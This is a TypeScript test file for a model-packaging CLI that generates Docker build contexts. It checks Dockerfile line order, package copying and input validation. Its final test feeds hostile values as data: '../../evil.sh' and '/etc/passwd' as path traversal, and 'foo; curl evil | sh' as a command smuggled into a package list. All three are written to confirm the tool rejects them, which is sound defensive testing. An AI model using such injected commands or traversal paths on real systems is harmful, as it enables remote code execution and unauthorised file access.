// `fresco models image <ref> --out dir/` (docs/deploy.md, "One model's image"): the Docker build
// context of one image serving and batch-scoring a version. No Docker engine here: the context's
// Dockerfile lines, files and paths are checked, not built.
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { packageRoot, packageVersion } from '../src/package-root.js';
import { loadPackage, writeManifest } from '../src/models/index.js';
import { imageSystemPackages, writeImageContext } from '../src/models/image-context.js';
import { ModelRegistry } from '../src/registry/index.js';
import { cli } from './helpers/cli.js';
import { REQUIREMENTS, TENSOR_MODEL } from './python-models-helpers.js';

let root: string;
let registryDir: string;
const sha = (file: string) => createHash('sha256').update(readFileSync(file)).digest('hex');

beforeAll(async () => {
  root = mkdtempSync(join(tmpdir(), 'fresco-image-'));
  registryDir = join(root, 'registry');
  const pkg = join(root, 'pkg');
  mkdirSync(join(pkg, 'weights'), { recursive: true });
  writeFileSync(join(pkg, 'model.py'), TENSOR_MODEL.replace('"/weights.npy"', '"/weights/w.npy"'));
  writeFileSync(join(pkg, 'requirements.txt'), REQUIREMENTS);
  writeFileSync(join(pkg, 'packages.txt'), '# system packages\nlibgomp1\n\ntzdata  # time zones\n');
  writeFileSync(join(pkg, 'weights', 'w.npy'), 'not read: the context is not run');
  writeFileSync(join(pkg, 'bias.txt'), '0.125');
  await writeManifest(pkg, { name: 'py-image', backend: 'python', model: 'model.py', input_kind: 'tensor', signature: { inputs: [{ name: 'x', dtype: 'float32', shape: ['batch', 4] }], outputs: [{ name: 'y', dtype: 'float32', shape: ['batch', 2] }] } });
  const registry = ModelRegistry.open(registryDir, { create: true });
  try {
    await registry.register(pkg, { aliases: ['production'] });
    await registry.register(join(packageRoot(), 'models', 'flights-delay'));
  } finally {
    registry.close();
  }
}, 600_000);
afterAll(() => rmSync(root, { recursive: true, force: true }));

describe('fresco models image', () => {
  it('writes a Dockerfile FROM the Fresco image that installs packages.txt, copies the package, registers it at build (building its environment) and serves it', async () => {
    const out = join(root, 'ctx-python');
    const r = await cli('--json', 'models', 'image', 'py-image@production', '--registry', registryDir, '--out', out);
    expect(r.code, r.err).toBe(0);
    expect(JSON.parse(r.out)).toMatchObject({ ref: 'py-image@image', systemPackages: ['libgomp1', 'tzdata'], baseImage: `fresco:${packageVersion()}` });
    const lines = readFileSync(join(out, 'Dockerfile'), 'utf8').split('\n');
    const at = (line: string) => {
      const i = lines.indexOf(line);
      expect(i, `Dockerfile line ${JSON.stringify(line)}`).toBeGreaterThanOrEqual(0);
      return i;
    };
    // In order: the base, apt as root, the environments inside the image (not the base's volume),
    // the package, registration (which builds the environment with pip), serve by default.
    const from = at('FROM ${FRESCO_IMAGE}');
    expect(at(`ARG FRESCO_IMAGE=fresco:${packageVersion()}`)).toBeLessThan(from);
    const apt = at(' && apt-get install -y --no-install-recommends libgomp1 tzdata \\');
    expect(lines[apt - 2]).toBe('USER root');
    const envs = at('ENV FRESCO_PYTHON_ENVS=/opt/model/python-envs');
    const copy = at('COPY --chown=node:node package /opt/model/package');
    const register = at('RUN fresco models register /opt/model/package --registry /opt/model/registry --name py-image --alias image');
    const cmd = at('CMD ["serve", "--host", "0.0.0.0", "--registry", "/opt/model/registry", "--models", "py-image@image"]');
    expect(from < apt && apt < envs && envs < copy && copy < register && register < cmd).toBe(true);
    expect(lines.slice(copy).filter((l) => l.startsWith('USER '))).toEqual([]); // registers and serves as node
    expect(lines.some((l) => l.includes("batch score py-image@image --registry /opt/model/registry"))).toBe(true);
    // The package byte for byte (nested artifacts included), and where it came from.
    const registry = ModelRegistry.open(registryDir);
    try {
      const v = registry.resolve('py-image@production');
      const pkg = await registry.materialize('py-image@production');
      for (const file of ['fresco.json', 'model.py', 'requirements.txt', 'packages.txt', 'weights/w.npy', 'bias.txt']) expect(sha(join(out, 'package', file))).toBe(sha(join(pkg.dir, file)));
      expect((await loadPackage(join(out, 'package'))).checksum).toBe(v.packageChecksum);
      expect(JSON.parse(readFileSync(join(out, 'image.json'), 'utf8'))).toMatchObject({ model: 'py-image', version: 1, package_checksum: v.packageChecksum, backend: 'python', ref_in_image: 'py-image@image' });
      // The Dockerfile's RUN line, run here as the build would (the environment is cached): the
      // context's package registers as the same package.
      const inImage = join(root, 'image-registry');
      const built = await cli('models', 'register', join(out, 'package'), '--registry', inImage, '--name', 'py-image', '--alias', 'image');
      expect(built.code, built.err).toBe(0);
      const imageRegistry = ModelRegistry.open(inImage);
      try {
        expect(imageRegistry.resolve('py-image@image').packageChecksum).toBe(v.packageChecksum);
      } finally {
        imageRegistry.close();
      }
    } finally {
      registry.close();
    }
  });

  it('an ONNX model gets no apt step; --base-image is used; a non-empty folder and an unknown ref are refused', async () => {
    const out = join(root, 'ctx-onnx');
    const r = await cli('models', 'image', 'flights-delay@1', '--registry', registryDir, '--out', out, '--base-image', 'registry.example/fresco:9');
    expect(r.code, r.err).toBe(0);
    const text = readFileSync(join(out, 'Dockerfile'), 'utf8');
    expect(text).toContain('ARG FRESCO_IMAGE=registry.example/fresco:9\n');
    expect(text).not.toContain('apt-get');
    expect(text).toContain('--models", "flights-delay@image"]');
    expect(readFileSync(join(out, 'package', 'model.onnx')).length).toBeGreaterThan(0);

    const again = await cli('models', 'image', 'flights-delay@1', '--registry', registryDir, '--out', out);
    expect(again.code).not.toBe(0);
    expect(again.err).toMatch(/error\[FRESCO_ERR_INVALID_ARGUMENT\]: .*ctx-onnx: the image context folder must be empty or absent/);
    const unknown = await cli('models', 'image', 'nope@production', '--registry', registryDir, '--out', join(root, 'ctx-none'));
    expect(unknown.code).not.toBe(0);
    expect(unknown.err).toMatch(/FRESCO_ERR_MODEL_NOT_FOUND\]: no model named "nope"/);
    expect(() => readFileSync(join(root, 'ctx-none', 'Dockerfile'))).toThrow();
  });

  it('paths are confined: a package path leaving the package, or a bad packages.txt name, writes nothing', async () => {
    const registry = ModelRegistry.open(registryDir);
    let pkg;
    try {
      pkg = await registry.materialize('py-image@production');
    } finally {
      registry.close();
    }
    const source = { name: 'py-image', version: 1, packageChecksum: pkg.checksum };
    const escaping = { ...pkg, manifest: { ...pkg.manifest, files: { ...pkg.manifest.files, '../../evil.sh': 'sha256:0' } } };
    const out = join(root, 'ctx-escape');
    expect(() => writeImageContext(source, escaping, out)).toThrowError(expect.objectContaining({ code: 'FRESCO_ERR_PACKAGE_INVALID', message: expect.stringContaining('../../evil.sh: a package path must stay inside the package') }));
    expect(() => readFileSync(join(out, 'Dockerfile'))).toThrow();
    const absolute = { ...pkg, manifest: { ...pkg.manifest, files: { '/etc/passwd': 'sha256:0' } } };
    expect(() => writeImageContext(source, absolute, join(root, 'ctx-abs'))).toThrowError(/must stay inside the package/);
    // packages.txt names go on a RUN line: anything but a Debian package name is refused, with its line.
    expect(() => imageSystemPackages('libgomp1\n# ok\nfoo; curl evil | sh\n')).toThrowError(expect.objectContaining({ code: 'FRESCO_ERR_PACKAGE_INVALID', message: expect.stringContaining('packages.txt:3: "foo; curl evil | sh" is not a system package name') }));
  });
});
